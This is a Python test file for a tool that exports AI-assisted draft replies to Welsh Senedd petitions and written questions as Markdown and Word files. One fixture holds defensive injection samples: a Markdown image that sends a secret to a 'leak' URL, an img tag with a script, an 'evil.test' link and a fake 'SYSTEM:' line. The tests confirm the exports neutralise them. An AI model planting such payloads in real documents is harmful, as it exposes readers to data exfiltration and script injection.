"""Markdown and Word exports of a draft: layout, numbered sources, AI-draft notice."""

from __future__ import annotations

import dataclasses
import io
import re
from datetime import date, datetime, timezone
from pathlib import Path
from typing import Any

import docx
import pytest

from rag.drafting.export import (
    AI_NOTICE,
    WORDING,
    docx_bytes,
    export_name,
    paragraphs,
    source_line,
    to_docx,
    to_markdown,
)
from rag.drafting.formats import render_reply
from rag.errors import InputError
from rag.settings import Settings
from rag.types import Citation, Draft, DraftRequest, DraftWarning

BODY = (
    "Care Inspectorate Wales provides independent assurance about children's social services [1].\n\n"
    "Legislation and Guidance\n\n"
    "The Act established the National Independent Safeguarding Board [2]."
)


def make_draft(**changes: object) -> Draft:
    request = DraftRequest(
        text="...",
        kind="petition",
        petition_number="P-06-1199",
        petition_title="Place Cardiff Children's Services into special measures",
        letter_date="2021-09-03",
    )
    minister = {
        "minister_name": "Julie Morgan AS/MS",
        "minister_title": "Deputy Minister for Social Services",
        "minister_title_cy": "Y Dirprwy Weinidog Gwasanaethau Cymdeithasol",
    }
    text = render_reply(request, BODY, Settings(_env_file=None, **minister), today=date(2021, 9, 23))  # type: ignore[call-arg]
    citations = [
        Citation(1, "doc1", "doc1:0", "P-06-1199", "2021-09-23", "Julie Morgan", "CIW ...", 0, 10, "Cardiff review"),
        Citation(2, "doc2", "doc2:4", "WQ85953", "2022-08-30", "Deputy Minister for Social Services", "The Act ..."),
    ]
    warnings = [DraftWarning("uncited", "This sentence states something but cites no source.", "Boards exist.")]
    fields: dict = {
        "kind": "petition",
        "backend": "offline",
        "text": text,
        "body": BODY,
        "citations": citations,
        "warnings": warnings,
        "request": request,
    }
    fields.update(changes)
    return Draft(**fields)


def test_source_line() -> None:
    c = make_draft().citations
    assert source_line(c[0]) == "[1] P-06-1199, 23 September 2021, Julie Morgan: \u2018Cardiff review\u2019"
    assert source_line(c[1]) == "[2] WQ85953, 30 August 2022, Deputy Minister for Social Services"
    bare = Citation(3, "doc3", "doc3:0", None, None, None, "q")
    assert source_line(bare) == "[3] doc3"


def test_markdown_layout() -> None:
    md = to_markdown(make_draft())
    assert md.startswith(f"> **{AI_NOTICE}**")
    assert "Jack Sargeant MS  \nChair - Petitions Committee  \nSenedd Cymru" in md  # hard line breaks
    assert "\nDear Jack,\n" in md and "\nLegislation and Guidance\n" in md
    assert "## Sources\n\n- \\[1\\] P-06-1199, 23 September 2021" in md  # shown as [1]
    assert "- \\[2\\] WQ85953, 30 August 2022" in md
    assert "## Points to check before use" in md and "\u201cBoards exist.\u201d" in md


def test_markdown_keeps_letter_lines_literal() -> None:
    md = to_markdown(make_draft(text="# not a heading\n\n1. not a list", citations=[], warnings=[]))
    assert "\\# not a heading" in md and "\\1. not a list" in md
    assert "## Sources" not in md and "Points to check" not in md


IMAGE = "![x](http://127.0.0.1:9/leak?d=SECRET)"
TAG = '<img src="http://127.0.0.1:9/leak?d=TAG"><script>alert(1)</script>'
LINK = "[click](http://evil.test/)"


def hostile_draft() -> Draft:
    body = f"Funding was confirmed {IMAGE} {TAG} [1].\n\n[1]: http://evil.test/ref\n\n{LINK} [1]."
    cited = Citation(1, "d<b>", "d:0", f"P-06-1 {IMAGE}", "2021-09-23", f"A {LINK}", "q", 0, 1, f"T {TAG}")
    warning = DraftWarning("instruction_in_source", f"Left out {TAG}", f"SYSTEM: {IMAGE}")
    return make_draft(
        text=render_reply(make_draft().request, body, Settings(_env_file=None)),
        body=body,  # type: ignore[call-arg, arg-type]
        citations=[cited],
        warnings=[warning],
    )


def test_markdown_export_escapes_precedent_markup_so_nothing_renders_or_loads() -> None:
    from markdown_it import MarkdownIt

    md = to_markdown(hostile_draft())
    for raw in (IMAGE, TAG, LINK, " <img", "![", "\n[1]:"):
        assert raw not in md, raw
    page = MarkdownIt("commonmark").enable("table").render(md)
    assert "<img" not in page and "<a " not in page and "<script" not in page
    assert "![x](http\u2060://127.0.0.1:9/leak?d=SECRET)" in page  # literal text, the URL unlinkable
    assert "&lt;img src=" in page and "[1]" in page


def test_docx_export_holds_precedent_markup_as_plain_text() -> None:
    doc = docx.Document(io.BytesIO(docx_bytes(hostile_draft())))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert IMAGE in text and TAG in text  # runs of plain text: Word renders neither images nor HTML
    assert (
        not doc.inline_shapes
        and not doc.part.rels
        or all("hyperlink" not in r.reltype and "image" not in r.reltype for r in doc.part.rels.values())
    )


def test_docx_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "draft.docx"
    to_docx(make_draft(), path)
    doc = docx.Document(str(path))
    paras = [p.text for p in doc.paragraphs]
    assert paras[0] == AI_NOTICE
    assert (
        paras[1]
        == "Julie Morgan AS/MS\nY Dirprwy Weinidog Gwasanaethau Cymdeithasol\nDeputy Minister for Social Services"
    )
    assert "Eich cyf/Your ref: P-06-1199\nEin cyf/Our ref: [Our ref]" in paras
    assert "Jack Sargeant MS\nChair - Petitions Committee\nSenedd Cymru\nCardiff Bay\nCardiff\nCF99 1SN" in paras
    assert "23 September 2021" in paras and "Dear Jack," in paras
    assert "Legislation and Guidance" in paras
    assert "The Act established the National Independent Safeguarding Board [2]." in paras
    assert "Yours sincerely," in paras
    i = paras.index("Sources")
    assert paras[i + 1].startswith("[1] P-06-1199, 23 September 2021, Julie Morgan")
    assert paras[i + 2].startswith("[2] WQ85953, 30 August 2022")
    assert doc.paragraphs[i].style.name.startswith("Heading")
    assert paras.index("Points to check before use") > i
    assert doc.core_properties.comments == AI_NOTICE


def test_docx_bytes_and_buffer_agree_and_reopen() -> None:
    draft = make_draft(text="Dear Jack,\x00\x07\n\nBody [1].\x0b", warnings=[])
    data = docx_bytes(draft)
    assert data[:2] == b"PK"
    doc = docx.Document(io.BytesIO(data))
    assert [p.text for p in doc.paragraphs][:3] == [AI_NOTICE, "Dear Jack,", "Body [1]."]
    buf = io.BytesIO()
    to_docx(draft, buf)
    assert buf.getvalue()[:2] == b"PK"


def test_docx_unwritable_path_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="Cannot write"):
        to_docx(make_draft(), tmp_path / "missing-dir" / "draft.docx")


def test_extra_blank_lines_typed_into_an_edit_make_no_empty_lines() -> None:
    typed = "Yours sincerely,\n\n\n \nAn added line [9].\n\n"
    assert paragraphs(typed) == [["Yours sincerely,"], ["An added line [9]."]]


# ---------------------------------------------------------------------------- page, properties, names


NOW = datetime(2026, 12, 2, 9, 30, tzinfo=timezone.utc)


def opened(draft: Draft, **options: Any) -> Any:
    return docx.Document(io.BytesIO(docx_bytes(draft, now=NOW, **options)))


def welsh(draft: Draft) -> Draft:
    assert draft.request is not None
    return dataclasses.replace(draft, request=dataclasses.replace(draft.request, language="cy"))


def test_docx_is_a4_with_25_mm_margins() -> None:
    for section in opened(make_draft()).sections:
        assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
        margins = (section.left_margin, section.right_margin, section.top_margin, section.bottom_margin)
        assert [round(m.mm) for m in margins] == [25, 25, 25, 25]


def test_docx_properties_are_the_replys_own_not_the_templates() -> None:
    props = opened(make_draft()).core_properties
    assert props.title == "Draft reply to P-06-1199: Place Cardiff Children's Services into special measures"
    assert props.author == "Ymateb" and props.last_modified_by == "Ymateb"
    assert props.created == props.modified == NOW
    assert props.keywords == "P-06-1199" and props.language == "en-GB"
    assert props.comments == AI_NOTICE
    default = docx_bytes(make_draft())  # created now when no time is given
    created = docx.Document(io.BytesIO(default)).core_properties.created
    assert created is not None and abs((datetime.now(timezone.utc) - created).total_seconds()) < 120


def test_a_welsh_reply_carries_the_notice_and_headings_in_welsh() -> None:
    draft = welsh(make_draft())
    doc = opened(draft)
    paras = [p.text for p in doc.paragraphs]
    notice = WORDING["cy"].notice
    assert paras[0] == notice and notice.startswith("Drafft gyda chymorth AI")
    assert AI_NOTICE not in paras and "Ffynonellau" in paras and "Sources" not in paras
    assert doc.core_properties.title.startswith("Ymateb drafft i P-06-1199") and doc.core_properties.language == "cy-GB"
    md = to_markdown(draft)
    assert md.startswith(f"> **{notice}**") and "## Ffynonellau" in md and AI_NOTICE not in md


def test_markers_can_be_left_out_of_the_letter_while_the_sources_stay() -> None:
    paras = [p.text for p in opened(make_draft(), markers=False).paragraphs]
    letter = paras[: paras.index("Sources")]
    assert "The Act established the National Independent Safeguarding Board." in letter
    assert not any(re.search(r"\[\d+\]", p) for p in letter)
    assert paras[paras.index("Sources") + 1].startswith("[1] P-06-1199, 23 September 2021")
    md = to_markdown(make_draft(), markers=False)
    body = md[: md.index("## Sources")]
    assert "Safeguarding Board.\n" in body and "\\[2\\]" not in body and "\\[1\\] P-06-1199" in md
    assert "Board [2]." in "\n".join(p.text for p in opened(make_draft()).paragraphs)  # kept by default


def wq(question: str, number: str | None = None) -> Draft:
    request = DraftRequest(text=question, kind="written_question", ask=question, wq_number=number, as_of="2026-12-02")
    return make_draft(kind="written_question", request=request)


@pytest.mark.parametrize(
    ("draft", "name"),
    [
        (
            make_draft(request=dataclasses.replace(make_draft().request, as_of="2026-12-02")),
            "P-06-1199-place-cardiff-childrens-services-special-measures-2026-12-02.docx",
        ),
        (
            wq("To ask the Minister for Health, what is the waiting time for hip operations?", "WQ85953"),
            "WQ85953-waiting-time-hip-operations-2026-12-02.docx",
        ),
        (
            wq("To ask the Cabinet Secretary for Education, how many Welsh-medium schools opened?"),
            "many-welsh-medium-schools-opened-2026-12-02.docx",
        ),
        (wq("What support is there for kinship carers in Gwynedd?"), "support-kinship-carers-gwynedd-2026-12-02.docx"),
        (make_draft(request=None), f"petition-{date.today().isoformat()}.docx"),
    ],
    ids=["petition", "numbered-wq", "unnumbered-wq", "unnumbered-wq-other", "nothing-known"],
)
def test_the_file_name_comes_from_reference_subject_and_reply_date(draft: Draft, name: str) -> None:
    assert export_name(draft, "docx") == name


def test_a_long_question_fits_word_s_255_character_properties() -> None:
    long_title = "Whether the proposed agreement on the Chagos Islands contains a clause " * 6  # 432 characters
    draft = make_draft()
    draft = dataclasses.replace(draft, request=dataclasses.replace(draft.request, petition_title=long_title))
    props = opened(draft).core_properties
    assert len(props.subject) <= 255 and props.subject.startswith("Whether the proposed agreement")
    assert len(props.title) <= 255 and props.title.endswith("…")
